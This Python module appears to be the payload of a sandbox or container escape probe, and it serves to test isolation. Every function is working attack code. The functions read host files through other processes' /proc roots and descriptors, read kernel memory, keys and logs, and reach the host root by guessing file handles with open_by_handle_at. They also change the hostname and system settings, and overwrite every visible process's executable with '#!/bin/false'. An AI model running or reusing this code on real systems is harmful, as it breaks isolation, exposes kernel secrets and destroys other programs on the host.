"""Looking around: other processes' roots, the machine's settings, kernel secrets, inherited descriptors."""

from __future__ import annotations

import ctypes
import os
import stat
import struct
from contextlib import suppress
from typing import Any

from dutyfree.probe.payload.kernel import call, name_of, read_start

_SECRETS = (
    "/proc/kcore",
    "/proc/keys",
    "/proc/key-users",
    "/proc/kmsg",
    "/proc/timer_list",
    "/proc/sched_debug",
    "/proc/slabinfo",
    "/proc/vmallocinfo",
    "/proc/pagetypeinfo",
    "/sys/kernel/debug/sched/debug",
    "/sys/firmware/dmi/tables/DMI",
    "/sys/firmware/acpi/tables/FACP",
    "/sys/firmware/efi/systab",
    "/sys/kernel/security/lockdown",
)


def other_roots(path: str) -> dict[str, Any]:
    """The host's file through the root, the working directory and the descriptors of every visible process."""
    found = []
    for pid in (entry for entry in os.listdir("/proc") if entry.isdecimal()):
        doors = [f"/proc/{pid}/root", f"/proc/{pid}/cwd", f"/proc/{pid}/cwd/../../../../../../../.."]
        with suppress(OSError):
            doors += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        found += [door for door in doors if _holds(door + path)]
    found += [start for start in (path, "/../../.." + path) if _holds(start)]
    return {"found": found, "content": [read_start(door + path).decode(errors="replace") for door in ["", *found]]}


def _holds(path: str) -> bool:
    return bool(read_start(path))


def write_settings(paths: list[str], mark: str) -> dict[str, Any]:
    """Write the mark into settings of the whole machine; `h` to sysrq, which only prints its help."""
    results = {}
    for path in paths:
        text = "h" if path.endswith("sysrq-trigger") else mark
        try:
            fd = os.open(path, os.O_WRONLY)
        except OSError as error:
            results[path] = error.strerror
            continue
        try:
            os.write(fd, text.encode())
            results[path] = "ok"
        except OSError as error:
            results[path] = error.strerror
        finally:
            os.close(fd)
    return {"results": results, "hostname": name_of(call("sethostname", mark, len(mark)))}


def kernel_secrets() -> dict[str, Any]:
    """Measure how much of the kernel's own state can be read."""
    sizes = {path: len(read_start(path)) for path in _SECRETS}
    buffer = ctypes.create_string_buffer(65536)
    log = call("syslog", 3, buffer, 65536)
    addresses = {line.split()[0] for line in read_start("/proc/kallsyms", 1 << 16).splitlines() if line}
    known = [address for address in addresses if address.strip(b"0")]
    return {"read": {path: size for path, size in sizes.items() if size}, "log": log, "symbols": len(known)}


def open_descriptors() -> dict[str, Any]:
    """Every descriptor this process was given, and what it leads to."""
    found = {}
    for fd in range(4096):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = "?"
        kind = "directory" if stat.S_ISDIR(mode) else "block" if stat.S_ISBLK(mode) else "other"
        found[str(fd)] = {"target": target, "kind": kind}
    return {"descriptors": found}


def guess_handles(path: str) -> dict[str, Any]:
    """Files by handle instead of by name: inode 2 is the root of most filesystems, whatever our own root is."""
    results = []
    found = ""
    for anchor in ("/", "/etc", "/usr", "/proc", "/dev/null", "/etc/hosts", "/etc/resolv.conf"):
        try:
            mount_fd = os.open(anchor, os.O_RDONLY)
        except OSError:
            continue
        for inode in (2, 128, 256):
            handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, inode), 16)
            fd = call("open_by_handle_at", mount_fd, handle, os.O_RDONLY)
            results.append(name_of(fd))
            if fd >= 0:
                found += read_start(f"/proc/self/fd/{fd}{path}").decode(errors="replace")
                os.close(fd)
        os.close(mount_fd)
    return {"results": sorted(set(results)), "found": found}


def relative_read(path: str) -> dict[str, Any]:
    """From the working directory we were started in, upwards to the host's file."""
    found = [read_start("../" * depth + path.lstrip("/")).decode(errors="replace") for depth in range(16)]
    return {"found": sorted(set(found)), "cwd": os.readlink("/proc/self/cwd")}


def overwrite_agent() -> dict[str, Any]:
    """The program of every visible process, opened for writing."""
    opened = []
    for pid in (entry for entry in os.listdir("/proc") if entry.isdecimal()):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
            try:
                fd = os.open(f"/proc/{pid}/exe", flags)
            except OSError:
                continue
            opened.append(int(pid))
            with suppress(OSError):
                os.pwrite(fd, b"#!/bin/false\n", 0)
            os.close(fd)
    return {"opened": sorted(set(opened))}


def visible_marks(mark: str) -> dict[str, Any]:
    """Files with the mark in their names, in every place that is usually writable."""
    found = []
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/etc", "/usr/local", "/var"):  # noqa: S108
        for directory, _, names in os.walk(top):
            found += [os.path.join(directory, name) for name in names if mark in name]
    return {"found": found}


ATTEMPTS = {
    "other-roots": other_roots,
    "write-settings": write_settings,
    "kernel-secrets": kernel_secrets,
    "open-descriptors": open_descriptors,
    "guess-handles": guess_handles,
    "relative-read": relative_read,
    "overwrite-agent": overwrite_agent,
    "visible-marks": visible_marks,
}
